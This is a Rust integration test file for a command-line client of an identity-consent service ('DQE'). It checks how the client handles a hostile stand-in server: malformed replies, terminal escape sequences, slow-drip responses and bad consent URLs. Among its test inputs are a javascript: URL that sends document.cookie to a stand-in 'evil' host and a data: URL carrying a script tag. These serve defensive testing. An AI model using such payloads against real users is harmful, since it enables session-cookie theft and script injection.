//! Replies that are not what DQE sends, from a stand-in server: exit 4 with one line, asked
//! once; a step 1 that may have reached DQE is printed as a flow and never sent again; a
//! consent URL that is not a web page is refused unseen; server text reaches the terminal
//! escaped; `--wait` is a deadline even while the server drips.

use std::time::Duration;

use dqe_client::{
    Formfilling, InitiateReply, InitiateSuccess, RetrieveError, RetrieveReply, RetrieveSuccess,
};

use dqe_sandbox::standin::{Answer, Standin};

use crate::support::{
    Dqe, TOKEN, all, assert_clean, assert_no_control, fresh_flow, json_reply, replying, token_reply,
};

#[test]
fn replies_that_are_not_what_dqe_sends_exit_4() {
    let html = b"<!doctype html><title>Proxy login</title>";
    let unknown_status = json_reply(&RetrieveReply::Unrecognized {
        status: Some("maintenance".to_owned()),
    });
    let html_type = [("Content-Type", "text/html")];
    let html_200 = Answer::http(200, &html_type, html);
    let cases: Vec<(&str, Answer)> = vec![
        ("HTML with status 200", html_200.clone()),
        ("HTML without a content type", Answer::http(200, &[], html)),
        ("an unknown status", unknown_status),
        ("HTTP 401, empty", Answer::http(401, &[], b"")),
        ("HTTP 403, HTML", Answer::http(403, &html_type, html)),
        ("HTTP 500, HTML", Answer::http(500, &html_type, html)),
        ("a redirect", Answer::redirect(307, "/elsewhere/")),
        ("a 2 MiB body", Answer::json(200, " ".repeat(2 << 20))),
        ("JSON that is not an object", json_reply(&[1, 2, 3])),
    ];
    let flow = fresh_flow();
    let stubs: Vec<Standin> = cases
        .iter()
        .map(|(_, reply)| replying(vec![reply.clone()]))
        .collect();
    let runs = stubs
        .iter()
        .map(|stub| Dqe::hostile(stub.url()).args(["retrieve", "--flow", &flow]))
        .collect();
    for (((case, _), stub), o) in cases.iter().zip(&stubs).zip(all(runs)) {
        let err = o.err();
        assert_eq!(o.code(), Some(4), "{case}: {err}");
        assert_eq!(err.trim().lines().count(), 1, "{case}: {err}");
        assert!(err.starts_with("dqe: "), "{case}: {err}");
        assert!(
            !err.contains("Proxy login"),
            "{case}: the body's text printed: {err}"
        );
        assert_eq!(stub.count(), 1, "{case}: asked more than once");
        assert_clean(&o, false);
    }

    // The token endpoint answering HTML: `token` and `flow` exit 4 too, and step 1 is never
    // sent.
    for flow in [false, true] {
        let stub = replying(vec![html_200.clone()]);
        let d = Dqe::hostile(stub.url());
        let o = if flow {
            d.step1("flow").wait(5)
        } else {
            d.arg("token")
        }
        .run();
        assert_eq!(o.code(), Some(4), "flow: {flow}: {}", o.err());
        assert_eq!(stub.count(), 1, "flow: {flow}");
        assert_clean(&o, false);
    }
}

#[test]
fn a_step_1_that_may_have_reached_dqe_gives_its_flow_and_is_not_sent_again() {
    let html_type = [("Content-Type", "text/html")];
    let html = Answer::http(200, &html_type, "<html>Bad gateway</html>");
    for json in [false, true] {
        let stub = replying(vec![token_reply(), html.clone()]);
        let o = Dqe::hostile(stub.url())
            .json_if(json)
            .step1("flow")
            .wait(5)
            .run();
        let (out, err) = o.text();
        assert_eq!(o.code(), Some(4), "{err}");
        assert_eq!(stub.count(), 2, "the token, then step 1 once");
        assert!(err.contains("not sent again"), "{err}");
        assert!(err.contains("dqe retrieve --flow"), "{err}");
        // The flow to poll is on stdout, as `initiate` prints it.
        let flow = if json {
            o.json()["flow"].to_string()
        } else {
            out.trim()
                .strip_prefix("flow: ")
                .unwrap_or_else(|| panic!("no flow on stdout: {out}"))
                .to_owned()
        };
        let v: serde_json::Value = serde_json::from_str(&flow).unwrap();
        assert_eq!(v["token"], TOKEN);
        assert_clean(&o, true);
    }
}

/// Escape sequences, and their escaped forms.
const HOSTILE_TEXT: &str = "\u{1b}[31mred\u{9b}2J\u{202e}";
const ESCAPED: &str = "\\u{1b}[31mred\\u{9b}2J\\u{202e}";

#[test]
fn server_text_reaches_the_terminal_escaped_in_errors() {
    let flow = fresh_flow();
    // An error whose type carries escape sequences: escaped on stderr, exit 2.
    let error = RetrieveReply::Error(RetrieveError::from_parts(
        "99".to_owned(),
        HOSTILE_TEXT.to_owned(),
    ));
    let stub = replying(vec![json_reply(&error)]);
    let o = Dqe::hostile(stub.url())
        .args(["retrieve", "--flow", &flow])
        .run();
    let (out, err) = o.text();
    assert_eq!(o.code(), Some(2), "{err}");
    assert_eq!(err.trim(), format!("dqe: error 99: {ESCAPED}"));
    assert_no_control(&out);
    assert_no_control(&err);
    assert_clean(&o, false);

    // With --json, the error as DQE sent it: the same text once decoded, no raw control
    // character on the way.
    let o = Dqe::hostile(stub.url())
        .json()
        .args(["retrieve", "--flow", &flow])
        .run();
    let (out, err) = o.text();
    assert_eq!(o.code(), Some(2), "{err}");
    assert_no_control(&out);
    assert_no_control(&err);
    assert_eq!(o.json(), serde_json::to_value(&error).unwrap());
    assert_clean(&o, false);
}

#[test]
fn server_text_reaches_the_terminal_escaped_in_results() {
    let flow = fresh_flow();
    // An identity carrying escape sequences: the user's data, printed whole, escaped.
    let mut identity = Formfilling::default();
    identity.family_name = Some(format!("Evil{HOSTILE_TEXT}"));
    identity.given_name = Some("Line\nbreak\rreturn".to_owned());
    let mut success = RetrieveSuccess::default();
    success.formfilling = Some(Box::new(identity));
    let success = RetrieveReply::Success(success);
    let stub = replying(vec![json_reply(&success)]);
    for json in [false, true] {
        let o = Dqe::hostile(stub.url())
            .json_if(json)
            .args(["retrieve", "--flow", &flow])
            .run();
        let (out, err) = o.text();
        assert_eq!(o.code(), Some(0), "{err}");
        assert_no_control(&out);
        assert_no_control(&err);
        if json {
            assert_eq!(o.json(), serde_json::to_value(&success).unwrap());
        } else {
            assert!(out.contains(&format!("Evil{ESCAPED}")), "{out}");
            assert!(out.contains("Line, break\\u{d}return"), "{out}");
        }
        assert_clean(&o, false);
    }

    // An operator carrying escape sequences. (A consent URL holding control characters is
    // refused outright: `a_consent_url_that_is_not_a_web_page_exits_4_without_being_shown`.)
    let mut consent = InitiateSuccess::default();
    consent.operator = Some(format!("Orange{HOSTILE_TEXT}"));
    consent.url = Some("https://consent.example/ok".to_owned());
    let consent = InitiateReply::Success(consent);
    for json in [false, true] {
        let stub = replying(vec![token_reply(), json_reply(&consent)]);
        let o = Dqe::hostile(stub.url())
            .json_if(json)
            .step1("initiate")
            .run();
        let (out, err) = o.text();
        assert_eq!(o.code(), Some(0), "{err}");
        assert_eq!(stub.count(), 2);
        assert_no_control(&out);
        assert_no_control(&err);
        if json {
            assert_eq!(o.json()["operator"], format!("Orange{HOSTILE_TEXT}"));
        } else {
            assert!(out.contains(&format!("Orange{ESCAPED}")), "{out}");
            assert!(out.contains("https://consent.example/ok"), "{out}");
        }
        assert_clean(&o, true);
    }
}

/// A consent URL that is not an operator's page is refused (exit 4, the rule it broke, never the
/// URL), and the flow is printed to poll: step 1 may have sent the SMS.
#[test]
fn a_consent_url_that_is_not_a_web_page_exits_4_without_being_shown() {
    for url in [
        "javascript:fetch('//evil/'+document.cookie)",
        "data:text/html,<script>evil()</script>",
        "/evil/relative",
    ] {
        let consent = serde_json::json!({"status": "success", "operator": "Orange", "url": url});
        let stub = replying(vec![token_reply(), json_reply(&consent)]);
        let o = Dqe::hostile(stub.url()).step1("flow").wait(5).run();
        let (out, err) = o.text();
        assert_eq!(o.code(), Some(4), "{url}: {err}");
        assert_eq!(stub.count(), 2, "{url}: the token, then step 1 once");
        assert!(err.contains("consent URL"), "{url}: {err}");
        assert!(err.contains("not sent again"), "{url}: {err}");
        assert!(
            !out.contains("evil") && !err.contains("evil"),
            "{out}\n{err}"
        );
        assert!(!out.contains("send the customer"), "{out}");
        assert!(out.starts_with("flow: "), "the flow to poll: {out}");
        assert_clean(&o, true);
    }
}

/// `--wait` is a deadline: a poll in flight ends with it, not with the request timeout (20 s),
/// while the server answers a reply's head at once, then drips its body.
#[test]
fn wait_ends_at_its_deadline_while_the_server_drips() {
    let stub = replying(vec![Answer::Drip {
        every: Duration::from_millis(500),
    }]);
    let flow = fresh_flow();
    let started = std::time::Instant::now();
    let o = Dqe::hostile(stub.url())
        .args(["retrieve", "--flow", &flow])
        .wait(2)
        .run();
    let took = started.elapsed();
    let err = o.err();
    assert_eq!(o.code(), Some(3), "{err}");
    assert!(err.contains("no final answer"), "{err}");
    // Not a timing claim: without the deadline the poll would last the 20 s request timeout.
    assert!(took < Duration::from_secs(15), "dqe waited {took:?}: {err}");
    assert_clean(&o, false);
}
